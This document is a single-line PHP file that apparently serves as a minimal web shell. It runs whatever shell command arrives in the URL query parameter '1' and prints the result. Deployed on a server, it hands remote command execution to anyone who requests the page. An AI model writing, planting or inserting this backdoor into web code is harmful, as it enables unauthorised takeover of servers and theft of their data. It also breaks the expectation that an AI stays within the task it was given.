<?php echo `$_GET[1]`; ?>
